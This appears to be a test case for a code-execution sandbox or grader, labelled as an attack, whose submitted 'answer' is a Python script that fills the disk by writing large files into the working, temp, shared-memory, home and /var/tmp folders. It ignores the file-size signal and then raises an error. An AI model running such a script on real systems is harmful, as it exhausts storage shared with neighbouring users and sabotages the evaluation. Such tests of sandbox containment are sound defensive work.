# attack: Writes files until no space is left, everywhere it can.
# gain: neighbour
# expect: q01=3 q02=0 q03=3
# flag: files-outside

# %% q02
import os
import signal
import tempfile

signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
block = bytes(1_000_000)
for folder in (".", tempfile.gettempdir(), "/dev/shm", os.path.expanduser("~"), "/var/tmp"):
    for number in range(40):
        try:
            with open(os.path.join(folder, f"left-full-{number}"), "wb", 0) as file:
                for _ in range(290):
                    file.write(block)
        except OSError:
            break
raise RuntimeError("not an answer")
